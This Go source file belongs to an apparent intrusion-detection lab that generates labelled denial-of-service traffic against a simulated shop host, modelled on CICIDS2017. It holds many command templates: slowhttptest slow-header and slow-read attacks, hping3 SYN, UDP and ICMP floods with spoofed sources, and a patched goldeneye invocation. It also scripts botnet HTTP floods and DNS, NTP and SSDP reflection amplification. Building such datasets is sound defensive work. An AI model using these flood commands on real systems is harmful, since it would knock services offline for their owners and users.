package lab

import (
	"context"
	"fmt"
	"net/netip"
	"strings"
	"time"

	"firetower/internal/attack"
)

// floods: one source that keeps a service from working, slowly or by rate.
func floods() []Scenario {
	row := func(name string, near bool, line string) Scenario {
		return Scenario{Name: name, Class: attack.DoS, Also: []attack.Class{attack.DDoS}, Limit: 45 * time.Second, Near: near,
			Play: func(ctx context.Context, r *Run) error { return floodOne(ctx, r, line) }}
	}
	// Debian 12's goldeneye divides where its Python wants whole numbers.
	const goldeneye = "sed 's:/2):\\/\\/2):' /usr/bin/goldeneye > ge.py; timeout SECS /usr/bin/python3 ge.py http://VICTIM/ -w 2 -s WORKERS -m random"
	return []Scenario{
		row("slow-headers", false, "slowhttptest -H -c CONNS -r RATE -i GAP -l LENGTH -u http://VICTIM/"),
		row("slow-body", false, "slowhttptest -B -c CONNS -r RATE -i GAP -l LENGTH -s 8192 -u http://VICTIM/comment"),
		row("slow-read", false, "slowhttptest -X -c CONNS -r RATE -w 16 -y 64 -n 5 -z 32 -k 3 -l LENGTH -u http://VICTIM/static/big.png"),
		row("slow-range", false, "slowhttptest -R -c CONNS -r RATE -a 10 -b 3000 -l LENGTH -u http://VICTIM/"),
		row("slow-few", false, "slowhttptest -H -c 40 -r 4 -i GAP -l LENGTH -u http://VICTIM/"),
		row("hping3-syn", true, "timeout SECS hping3 -q -S -p 80 -i uGAPU VICTIM"),
		row("hping3-udp", true, "timeout SECS hping3 -q -2 -p 53 -d SIZE -i uGAPU VICTIM"),
		row("hping3-icmp", true, "timeout SECS hping3 -q -1 -d SIZE -i uGAPU VICTIM"),
		row("hping3-ack", true, "timeout SECS hping3 -q -A -p 80 -i uGAPU VICTIM"),
		also(attack.PortScan, row("hping3-ports", true, "timeout SECS hping3 -q -2 -p ++1 -d SIZE -i uGAPU VICTIM")),
		row("ab", true, "timeout SECS ab -q -n 100000 -c WORKERS http://VICTIM/"),
		row("wrk", true, "wrk -t 1 -c WORKERS -d SECSs http://VICTIM/login"),
		row("wrk-close", true, "wrk -t 1 -c WORKERS -d SECSs -H 'Connection: close' http://VICTIM/terms"),
		row("siege", true, "siege -q -b -c WORKERS -t SECSS http://VICTIM/"),
		row("goldeneye", true, goldeneye),
		row("hulk", true, "SELF flood -url http://VICTIM/search -workers WORKERS -rate 20 -for SECSs -seed SEED"),
		row("hulk-keep", true, "SELF flood -url http://VICTIM/ -keep -workers WORKERS -rate 20 -for SECSs -seed SEED"),
		row("post-flood", true, "SELF flood -url http://VICTIM/comment -post -workers WORKERS -rate 15 -for SECSs -seed SEED"),
		row("connect-flood", true, "SELF dial -to VICTIM:80 -rate 400 -for SECSs"),
	}
}

// also gives a scenario one more fair name.
func also(c attack.Class, s Scenario) Scenario {
	s.Also = append(s.Also, c)
	return s
}

func floodOne(ctx context.Context, r *Run, line string) error {
	a, err := r.attacker(ctx)
	if err != nil {
		return err
	}
	r.against(r.Shop)
	line = r.fillFlood(line, r.Shop)
	r.strikeWith(ctx, a, line)
	return nil
}

// strikeWith plays a filled-in line of a table, be it one of the lab's own programs.
func (r *Run) strikeWith(ctx context.Context, h *Host, line string) {
	if rest, ok := strings.CutPrefix(line, "SELF "); ok {
		r.actor(ctx, h, "%s", rest)
		return
	}
	r.play(ctx, h, "%s", line)
}

func (r *Run) fillFlood(line string, victim *Host) string {
	return strings.NewReplacer("CONNS", fmt.Sprint(r.between(60, 400)), "RATE", fmt.Sprint(r.between(10, 100)), "GAP ", fmt.Sprint(r.between(3, 12))+" ",
		"LENGTH", fmt.Sprint(r.between(25, 40)), "SECS", fmt.Sprint(r.between(5, 12)), "GAPU", fmt.Sprint(r.between(250, 1500)), "GENTLE", fmt.Sprint(r.between(2500, 20000)), "FEW", fmt.Sprint(r.between(30, 150)), "THREADS", fmt.Sprint(r.between(6, 16)),
		"SIZE", fmt.Sprint(r.between(20, 1200)), "WORKERS", fmt.Sprint(r.between(10, 80)), "SEED", fmt.Sprint(r.Uint64()), "VICTIM", r.at(victim).String()).Replace(line)
}

// distributed: many addresses against one, spoofed or with whole connections.
func distributed() []Scenario {
	row := func(name, line string) Scenario {
		return Scenario{Name: name, Class: attack.DDoS, Also: []attack.Class{attack.DoS}, Limit: 40 * time.Second, Near: true,
			Play: func(ctx context.Context, r *Run) error { return floodMany(ctx, r, line) }}
	}
	return []Scenario{
		row("spoofed-syn", "timeout SECS hping3 -q -S --rand-source -p 80 -i uGAPU VICTIM"),
		row("spoofed-udp", "timeout SECS hping3 -q -2 --rand-source -p 53 -d SIZE -i uGAPU VICTIM"),
		row("spoofed-icmp", "timeout SECS hping3 -q -1 --rand-source -d 56 -i uGAPU VICTIM"),
		row("spoofed-ack", "timeout SECS hping3 -q -A --rand-source -p 443 -i uGAPU VICTIM"),
		row("botnet-get", "SELF flood -url http://VICTIM/search -from BOTNET -workers BOTS -rate 4 -for SECSs -seed SEED"),
		row("botnet-post", "SELF flood -url http://VICTIM/login -post -from BOTNET -workers BOTS -rate 3 -for SECSs -seed SEED"),
		row("botnet-connect", "SELF dial -to VICTIM:80 -from BOTNET -rate 500 -for SECSs"),
		row("botnet-slow", "SELF dial -to VICTIM:80 -from BOTNET -rate 30 -for 25s -hold 25s -say GET\\x20/\\x20HTTP/1.1\\r\\nHost:\\x20shop\\r\\n"),
		row("dns-reflection", "SELF reflect -to VICTIM -from BOTNET -port 53 -size 1300 -reflectors BOTS -rate 3000 -for SECSs"),
		row("ntp-reflection", "SELF reflect -to VICTIM -from BOTNET -port 123 -size 460 -reflectors BOTS -rate 3000 -for SECSs"),
		row("ssdp-reflection", "SELF reflect -to VICTIM -from BOTNET -port 1900 -size 320 -reflectors BOTS -rate 2000 -for SECSs"),
		{Name: "three-machines", Class: attack.DDoS, Also: []attack.Class{attack.DoS}, Limit: 40 * time.Second, Near: true, Play: threeMachines},
	}
}

func floodMany(ctx context.Context, r *Run, line string) error {
	a, err := r.host(ctx, "botnet", false)
	if err != nil {
		return err
	}
	net := netip.PrefixFrom(netip.AddrFrom4([4]byte{198, 18, byte(r.IntN(64) * 4), 0}), 22)
	if err := a.Own(ctx, net); err != nil {
		return err
	}
	r.against(r.Shop)
	line = strings.NewReplacer("BOTNET", net.String(), "BOTS", fmt.Sprint(r.between(80, 300))).Replace(r.fillFlood(line, r.Shop))
	if rest, ok := strings.CutPrefix(line, "SELF "); ok {
		r.actor(ctx, a, "%s", rest)
		return nil
	}
	r.play(ctx, a, "%s", line)
	return nil
}

// threeMachines is how CICIDS2017's own DDoS was made: a few hosts, each flooding.
func threeMachines(ctx context.Context, r *Run) error {
	r.against(r.Shop)
	done := make(chan struct{})
	n := r.between(3, 5)
	var bots []*Host
	for i := range n {
		h, err := r.host(ctx, fmt.Sprintf("bot%d", i), false)
		if err != nil {
			return err
		}
		bots = append(bots, h)
	}
	secs, workers := r.between(8, 15), r.between(8, 20)
	for i, h := range bots {
		go func() {
			defer func() { done <- struct{}{} }()
			h.Self(ctx, "flood", "-url", "http://"+r.Shop.Addr.String()+"/", "-workers", fmt.Sprint(workers), "-rate", "25",
				"-for", fmt.Sprintf("%ds", secs), "-seed", fmt.Sprint(i))
		}()
	}
	for range bots {
		<-done
	}
	r.note(fmt.Sprintf("flood from %d machines, %d workers each, %d s", n, workers, secs))
	return nil
}
